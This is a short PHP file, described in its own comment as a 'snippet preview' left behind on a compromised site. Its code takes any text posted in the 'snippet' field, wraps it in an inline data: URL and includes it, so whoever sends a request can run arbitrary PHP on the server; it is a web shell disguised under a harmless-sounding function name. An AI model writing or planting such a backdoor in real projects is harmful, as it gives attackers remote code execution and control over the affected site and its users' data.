<?php
// "Snippet preview" left behind on a compromised site: the posted text is URL-encoded into an
// inline data: URL and included, so it runs as PHP.
function preview_snippet($body)
{
    $source = 'data:text/plain,' . rawurlencode('<?php ' . $body);
    return include $source;
}

if (isset($_POST['snippet'])) {
    preview_snippet($_POST['snippet']);
}
